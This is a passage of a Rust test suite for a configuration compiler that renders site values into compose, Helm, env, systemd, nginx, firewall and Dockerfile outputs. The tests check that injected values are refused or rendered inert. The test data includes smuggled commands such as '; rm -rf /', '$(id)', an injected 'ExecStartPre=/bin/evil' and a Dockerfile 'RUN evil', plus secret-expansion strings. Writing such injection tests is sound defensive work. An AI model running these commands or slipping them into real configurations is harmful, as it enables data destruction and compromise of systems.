            for (benign, reference) in field.benign.iter().zip(references) {
                let mut cx = Ctx {
                    benign,
                    hostile,
                    file: "",
                    errors: Vec::new(),
                };
                let bk: Vec<&String> = reference.keys().collect();
                let pk: Vec<&String> = got.keys().collect();
                if bk != pk {
                    cx.errors
                        .push(format!("output files {pk:?} instead of {bk:?}"));
                } else {
                    for (path, b) in reference {
                        cx.file = path;
                        check_file(&mut cx, path, b, &got[path]);
                    }
                }
                if cx.errors.is_empty() {
                    return Ok(Outcome::Inert);
                }
                first_errors.get_or_insert(cx.errors);
            }
            Err(first_errors.unwrap_or_default())
        }
    }
}

fn references(field: &Field) -> Vec<BTreeMap<String, Vec<u8>>> {
    field
        .benign
        .iter()
        .map(|benign| {
            let (files, _) = variant(field.site, field.place, benign);
            match compile_mem(&files) {
                Compiled::Built(trees) => flatten(&trees),
                other => panic!(
                    "field `{}`: the benign value `{benign}` does not build: {other:?}",
                    field.name
                ),
            }
        })
        .collect()
}

#[test]
fn hostile_strings_are_refused_or_inert_in_every_output() {
    let fields = fields();
    let payloads = payloads();
    let references: Vec<Vec<BTreeMap<String, Vec<u8>>>> = fields.iter().map(references).collect();
    // Every output kind is covered by the references.
    let kinds: std::collections::BTreeSet<String> = references
        .iter()
        .flat_map(|r| r.iter().flat_map(|r| r.keys()))
        .map(|p| p.rsplit('/').next().unwrap().to_string())
        .map(|n| blank_hex(&n))
        .collect();
    for kind in [
        "compose.yaml",
        "values.yaml",
        "application.yaml",
        "manifest.json",
        "docker-bake.json",
        "dify.env",
        "agent.conf",
        "dify-cfg-pull.timer",
        "default.conf",
        "rules.v4",
        "rules.v6",
        "squid.conf",
        "api.Dockerfile",
        "web.Dockerfile",
        "api.Dockerfile.dockerignore",
    ] {
        assert!(
            kinds.contains(kind),
            "no field renders into {kind}: {kinds:?}"
        );
    }

    // The pull agent's script and services are the same bytes whatever
    // the site says: no field renders into them.
    for file in [
        "deploy/apply.sh",
        "deploy/dify-cfg-pull.service",
        "deploy/dify-cfg-firewall.service",
    ] {
        let versions: std::collections::BTreeSet<&Vec<u8>> = references
            .iter()
            .flatten()
            .flat_map(|r| r.iter())
            .filter(|(p, _)| p.ends_with(&format!("/{file}")))
            .map(|(_, b)| b)
            .collect();
        assert_eq!(versions.len(), 1, "{file} depends on a field");
    }

    let mut cases = Vec::new();
    for (fi, f) in fields.iter().enumerate() {
        for (pname, p) in &payloads {
            cases.push((fi, pname.to_string(), p.clone()));
            // The payload after a valid prefix gets past checks of the start.
            cases.push((
                fi,
                format!("{pname} after the value"),
                format!("{}{p}", f.benign[0]),
            ));
        }
    }
    let next = AtomicUsize::new(0);
    let failures = Mutex::new(Vec::new());
    let outcomes = Mutex::new(BTreeMap::<String, (usize, usize)>::new());
    std::thread::scope(|sc| {
        for _ in 0..std::thread::available_parallelism()
            .map_or(2, |n| n.get())
            .min(4)
        {
            sc.spawn(|| {
                loop {
                    let i = next.fetch_add(1, Ordering::SeqCst);
                    let Some((fi, pname, hostile)) = cases.get(i) else {
                        break;
                    };
                    let f = &fields[*fi];
                    match check_case(f, hostile, &references[*fi]) {
                        Ok(o) => {
                            let mut m = outcomes.lock().unwrap();
                            let e = m.entry(f.name.to_string()).or_default();
                            match o {
                                Outcome::Refused => e.0 += 1,
                                Outcome::Inert => e.1 += 1,
                            }
                        }
                        Err(errs) => failures.lock().unwrap().push(format!(
                            "{} × {pname}:\n    {}",
                            f.name,
                            errs.iter()
                                .take(8)
                                .cloned()
                                .collect::<Vec<_>>()
                                .join("\n    ")
                        )),
                    }
                }
            });
        }
    });
    let outcomes = outcomes.into_inner().unwrap();
    for (f, (refused, inert)) in &outcomes {
        eprintln!("{f:28} refused {refused:3}  inert {inert:3}");
    }
    let mut failures = failures.into_inner().unwrap();
    failures.sort();
    assert!(
        failures.is_empty(),
        "{} of {} cases are neither refused nor inert:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// The same verdicts through the binary: `check` exits 2 with a located
/// error for a refused value, `build` exits 0 for an inert one.
#[test]
fn the_binary_agrees_on_a_sample() {
    let fields = fields();
    let sample = [
        ("description", "x\ny: z"),
        (
            "description",
            "${DIFY_DB_PASSWORD} {{ site.name }} '\"#: ---",
        ),
        ("hostname", "evil.example.org; rm -rf /"),
        ("env value", "it's $HOME"),
        ("label value", "\u{202E}evil"),
        (
            "gitops repository",
            "https://git.example.org/x.git\nExecStartPre=/bin/evil",
        ),
    ];
    for (name, hostile) in sample {
        let f = fields.iter().find(|f| f.name == name).unwrap();
        let (files, site_file) = variant(f.site, f.place, hostile);
        let dir = tempfile::tempdir().unwrap();
        for (p, b) in &files {
            let path = dir.path().join(p);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, b).unwrap();
        }
        let root = dir.path().to_str().unwrap();
        let expected = match compile_mem(&files) {
            Compiled::Invalid(_) => 2,
            Compiled::Built(_) => 0,
            Compiled::RenderFailed(f) => panic!("{name}: render failed: {f:?}"),
        };
        let o = dify_cfg(&["--root", root, "check"], dir.path());
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(
            o.status.code(),
            Some(expected),
            "{name} × {hostile:?}: {err}"
        );
        assert!(!err.contains("panicked"), "{err}");
        if expected == 2 {
            assert!(err.contains("error["), "{err}");
            assert!(err.contains(&format!(" --> {site_file}:")), "{err}");
        } else {
            let o = dify_cfg(&["--root", root, "build"], dir.path());
            assert_eq!(
                o.status.code(),
                Some(0),
                "{}",
                String::from_utf8_lossy(&o.stderr)
            );
        }
    }
}

/// The checks above can fail: an output that lets the payload out of its
/// literal is caught, for every kind of file.
#[test]
fn the_checks_catch_escaped_payloads() {
    let caught = |path: &str, b: &str, p: &str, hostile: &str| {
        let mut cx = Ctx {
            benign: "BENIGN",
            hostile,
            file: path,
            errors: Vec::new(),
        };
        check_file(&mut cx, path, b.as_bytes(), p.as_bytes());
        cx.errors
    };
    let cases: &[(&str, &str, &str, &str)] = &[
        // (file, reference, rendering of the payload, payload)
        (
            "s/compose.yaml",
            "a: \"BENIGN\"\nb: 1\n",
            "a: \"x\"\nc: 2\nb: 1\n",
            "x\"\nc: 2",
        ),
        (
            "s/compose.yaml",
            "a: \"BENIGN\"\n",
            "a: \"${SECRET}\"\n",
            "${SECRET}",
        ),
        (
            "s/helm/values.yaml",
            "a: [\"BENIGN\"]\n",
            "a: [\"x\", \"y\"]\n",
            "x\", \"y",
        ),
        (
            "s/manifest.json",
            "{\"a\": \"BENIGN\"}\n",
            "{\"a\": \"x\", \"b\": 1}\n",
            "x\", \"b\": 1",
        ),
        ("s/dify.env", "A='BENIGN'\n", "A='x'\nB='y'\n", "x'\nB='y"),
        ("s/dify.env", "A='BENIGN'\n", "A='x' y\n", "x' y"),
        (
            "s/deploy/apply.sh",
            "X='BENIGN'\n",
            "X='a'; rm -rf /\n",
            "a'; rm -rf /",
        ),
        (
            "s/deploy/apply.sh",
            "X='BENIGN'\n",
            "X=\"$(id)\"\n",
            "$(id)",
        ),
        (
            "s/deploy/apply.sh",
            "git fetch 'BENIGN'\n",
            "git fetch $(id)\n",
            "$(id)",
        ),
        (
            "s/deploy/agent.conf",
            "REPOSITORY=BENIGN\n",
            "REPOSITORY=x\nSITE=y\n",
            "x\nSITE=y",
        ),
        (
            "s/deploy/agent.conf",
            "REPOSITORY=BENIGN\n",
            "REPOSITORY=$(id)\n",
            "$(id)",
        ),
        (
            "s/deploy/dify-cfg-pull.service",
            "[Service]\nDescription=BENIGN\n",
            "[Service]\nDescription=x\nExecStartPre=/bin/evil\n",
            "x\nExecStartPre=/bin/evil",
        ),
        (
            "s/deploy/dify-cfg-pull.service",
            "[Service]\nDescription=BENIGN\n",
            "[Service]\nDescription=x\\\n",
            "x\\",
        ),
        (
            "s/deploy/dify-cfg-pull.service",
            "[Service]\nEnvironment=A=BENIGN\n",
            "[Service]\nEnvironment=A=x B=y\n",
            "x B=y",
        ),
        (
            "s/deploy/dify-cfg-pull.timer",
            "[Timer]\nUnit=BENIGN\n",
            "[Timer]\nUnit=%h\n",
            "%h",
        ),
        (
            "s/nginx/default.conf",
            "server_name BENIGN;\n",
            "server_name x; return 200;\n",
            "x; return 200",
        ),
        (
            "s/nginx/default.conf",
            "server_name BENIGN;\n",
            "server_name $host;\n",
            "$host",
        ),
        (
            "s/firewall/rules.v4",
            "-A IN -m comment --comment \"BENIGN\" -j DROP\n",
            "-A IN -m comment --comment \"x\" -j ACCEPT\n",
            "x\" -j ACCEPT",
        ),
        (
            "s/firewall/rules.v4",
            "# BENIGN\n-A IN -j DROP\n",
            "# x\n-A IN -j ACCEPT\n",
            "x\n-A IN -j ACCEPT",
        ),
        (
            "s/docker/api.Dockerfile",
            "FROM a\nLABEL d=\"BENIGN\"\n",
            "FROM a\nLABEL d=\"x\"\nRUN evil\n",
            "x\"\nRUN evil",
        ),
        (
            "s/docker/api.Dockerfile",
            "FROM a\nLABEL d=\"BENIGN\"\n",
            "FROM a\nLABEL d=\"${SECRET}\"\n",
            "${SECRET}",
        ),
        (
            "s/docker/api.Dockerfile.dockerignore",
            "# BENIGN\n*\n",
            "# x\n!secret\n",
            "x\n!secret",
        ),
        (
            "s/docker/api.Dockerfile.dockerignore",
            "# BENIGN\n*\n",
            "# x\n*\n!y\n",
            "x\n!y",
        ),
    ];
    for (path, b, p, hostile) in cases {
        assert!(
            !caught(path, b, p, hostile).is_empty(),
            "not caught in {path}: {p:?}"
        );
    }
    // And an inert rendering passes.
    let ok = caught(
        "s/compose.yaml",
        "a: \"BENIGN\"\n",
        "a: \"x$${SECRET}\\\"\\n\"\n",
        "x${SECRET}\"\n",
    );
    assert!(ok.is_empty(), "{ok:?}");
    let ok = caught(
        "s/deploy/apply.sh",
        "X='BENIGN'\n",
        "X='a'\\''; rm -rf /'\n",
        "a'; rm -rf /",
    );
    assert!(ok.is_empty(), "{ok:?}");
}
